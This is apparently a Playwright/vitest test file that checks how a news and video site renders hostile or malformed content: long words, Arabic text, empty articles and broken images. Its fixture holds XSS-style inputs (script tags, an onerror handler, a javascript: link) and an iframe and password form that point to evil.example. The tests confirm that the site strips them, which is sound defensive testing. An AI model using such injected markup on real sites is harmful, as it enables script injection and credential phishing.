import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect } from 'vitest'
import { accessibilityFindings } from '../harness/accessibility.ts'
import { openLive } from '../harness/opening.ts'
import { startTestProduct } from '../harness/product.ts'
import { sampled } from '../harness/sampling.ts'
import { test as base, launchBrowser } from '../harness/test.ts'
import { watchConsole } from '../harness/traffic.ts'
import { copyOfTheDemoContent } from './content-folder.ts'
import { htmlFindings } from './html-rules.ts'
import { shiftsAbove, watchLayoutShifts } from './layout-shifts.ts'
import { atRest, readToTheEnd, sidewaysScrolling } from './looking.ts'
import { videoCardsIn } from './video-cards.ts'

/** 300 characters without a place to break them. */
const longWord = 'Unbreakable'.repeat(28).slice(0, 300)
const longTitle = `${'A headline that went on and on '.repeat(10)}`.slice(0, 299).trim().padEnd(300, '!')
const arabic = 'حديقة الشرفة في الطابق الثالث، وثلاث وأربعون علبة قهوة'

/** What an editor pastes, and what somebody who means ill does. */
const brokenHtml = `
<h1>Pasted headline</h1>
<div><p>Never closed <b>bold <i>both</p>
<table><tr><td>cell<td>${longWord}
<ul><li>one<li>two
<a href="/news">a link <a href="/video">in a link</a>
<img src="http://localhost:9/gone.avif"><img src="x" onerror="document.title='taken'">
<script>document.title='taken'</script><style>body{display:none}</style>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example"><input name="password"></form>
<a href="javascript:document.title='taken'">press</a>
<p style="position:fixed;inset:0">over everything</p>
<p id="main" class="x">a borrowed id
<pre>${longWord}</pre>
<p>The end of it.</p>
`

const article = (fields: Readonly<Record<string, string>>, text: string) =>
  `---\n${Object.entries({
    author: 'Theo Baptiste',
    publishedDaysAgo: '0',
    publishedTime: '"00:01"',
    ...fields,
  })
    .map(([name, value]) => `${name}: ${value}`)
    .join('\n')}\n---\n\n${text}\n`

const test = base
  // biome-ignore lint/correctness/noEmptyPattern: vitest reads a fixture's dependencies from the pattern
  .extend('content', { scope: 'file' }, async ({}, { onCleanup }) => {
    const content = copyOfTheDemoContent()
    onCleanup(content.remove)
    const quoted = JSON.stringify
    content.write(
      'news/long-word.md',
      article(
        { title: quoted(longWord), subTitle: quoted(longWord), category: 'community', tags: '[music]' },
        longWord,
      ),
    )
    content.write('news/long-title.md', article({ title: quoted(longTitle) }, `${'Words '.repeat(400)}`))
    content.write(
      'news/right-to-left.md',
      article(
        { title: quoted(arabic), subTitle: quoted(arabic), category: 'culture' },
        `${arabic}\n\n${arabic}`,
      ),
    )
    content.write('news/broken-html.md', article({ title: '"Broken"' }, brokenHtml))
    content.write('news/no-text.md', article({ title: '"No text"' }, ''))
    content.write(
      'videos/long-video.md',
      article(
        {
          title: quoted(longWord),
          subTitle: quoted(longWord),
          category: 'makers-bench',
          youtubeId: 'CmpndNews10',
        },
        '',
      ),
    )
    content.write(
      'productions/long-production.md',
      `---\nname: ${quoted(longWord)}\nstatus: open\npublishedDaysAgo: 0\nvenue: ${quoted(longWord)}\nstartsInDays: 3\ntime: "19:00"\n---\n\n${brokenHtml}\n`,
    )
    return content
  })
  // Without windows, Chromium draws Arabic before the site's typefaces are there, and its line breaks elsewhere then.
  // biome-ignore lint/correctness/noEmptyPattern: vitest reads a fixture's dependencies from the pattern
  .extend('browser', { scope: 'worker' }, async ({}, { onCleanup }) => {
    const browser = await launchBrowser([], { hasWindows: true })
    onCleanup(() => browser.close())
    return browser
  })
  .extend('product', { scope: 'file' }, async ({ content }, { onCleanup }) => {
    const albums = join(content.path, '_albums.json')
    // One show without a video, one that the hosting account does not have.
    writeFileSync(
      albums,
      JSON.stringify({ SHOWS: { 'High Jinx': '11010001', Gone: '11019999' }, RECAPS: {}, projects: [] }),
    )
    const product = await startTestProduct({ CONTENT_DIR: content.path, ALBUMS_FILE: albums })
    onCleanup(product.stop)
    return product
  })

const screens = [
  '/',
  '/news',
  '/news/long-word',
  '/news/long-title',
  '/news/right-to-left',
  '/news/broken-html',
  '/video/long-video',
  '/shows',
  '/RSVP',
  '/RSVP/long-production',
]

describe('unruly content', () => {
  test.for(sampled(screens, 3, 15))('leaves %s in shape', async (path, { openPage, product }) => {
    const html = await (await fetch(product.site + path)).text()
    if (!html.includes('Pasted headline')) expect(await htmlFindings(html)).toEqual([])

    const page = await openPage({ viewport: { width: 360, height: 740 } })
    await watchLayoutShifts(page)
    await openLive(page, path)
    await readToTheEnd(page)
    await atRest(page)
    expect({
      title: await page.title(),
      headings: await page.getByRole('heading', { level: 1 }).count(),
      frames: await page.locator('iframe').count(),
      shifts: await shiftsAbove(page, 0.02),
      findings: await accessibilityFindings(page),
    }).toEqual({
      title: expect.not.stringContaining('taken'),
      headings: 1,
      frames: 0,
      shifts: [],
      findings: [],
    })
    expect(await sidewaysScrolling(page, [320, 1280])).toEqual([])
  })

  test('is shown as far as it can be', async ({ openPage }) => {
    const page = await openPage()
    const complaints = watchConsole(page)
    await openLive(page, '/news/broken-html')
    const text = page.locator('main article').first()
    expect(await text.getByText('The end of it.').isVisible()).toBe(true)
    const harmful =
      'script:not([type="application/ld+json"]), style, form, input, [onerror], [style], a[href^=javascript]'
    expect(await text.locator(harmful).count()).toBe(0)
    // The picture of a host that no page may show is all that the browser has to report.
    const expected = /Failed to load resource|gone\.avif/
    expect(complaints.filter((complaint) => !expected.test(complaint))).toEqual([])
  })

  test('is read from right to left where it is written so', async ({ openPage }) => {
    const page = await openPage()
    await page.goto('/news/right-to-left')
    for (const place of [page.getByRole('heading', { level: 1 }), page.locator('main article p').last()]) {
      expect(await place.evaluate((element) => getComputedStyle(element).direction)).toBe('rtl')
    }
  })

  test('says so where there is no text', async ({ openPage }) => {
    const page = await openPage()
    for (const path of ['/news/no-text', '/video/long-video']) {
      await page.goto(path)
      expect(await page.getByText('No description!!', { exact: true }).count(), path).toBe(1)
    }
  })

  test('cuts a long title on its card and says it whole', async ({ openPage }) => {
    const page = await openPage()
    await page.goto('/morevids/makers-bench')
    const card = (await videoCardsIn(page.locator('main'))).find(({ href }) => href === '/video/long-video')
    expect(card).toMatchObject({ shown: `${longWord.slice(0, 20)}…`, name: longWord })
  })
})

describe('what is missing', () => {
  test('a show without videos says so below its name', async ({ openPage }) => {
    const page = await openPage()
    await page.goto('/shows')
    const section = page.getByRole('region', { name: 'Gone', exact: true })
    expect(await section.getByText('No video is present!!', { exact: true }).count()).toBe(1)
    expect(await section.getByRole('link', { name: /^See More Videos/ }).count()).toBe(1)
  })

  test('pictures that do not load leave a drawing in their place', async ({ openPage }) => {
    const page = await openPage({ viewport: { width: 360, height: 740 } })
    await watchLayoutShifts(page)
    await page.route(/\.(avif|jpg|png|webp)(\?|$)|\/pictures\//, (route) => route.abort())
    await openLive(page, '/news')
    await readToTheEnd(page)
    await expect
      .poll(() =>
        page
          .locator('main img')
          .evaluateAll(
            (pictures) =>
              pictures.filter(
                (picture) =>
                  picture instanceof HTMLImageElement && picture.complete && picture.naturalWidth === 0,
              ).length,
          ),
      )
      .toBe(0)
    expect(await shiftsAbove(page, 0.02)).toEqual([])
    await atRest(page)
    expect(await accessibilityFindings(page)).toEqual([])
    expect(await page.locator('main').getByRole('article').count()).toBe(6)
  })
})
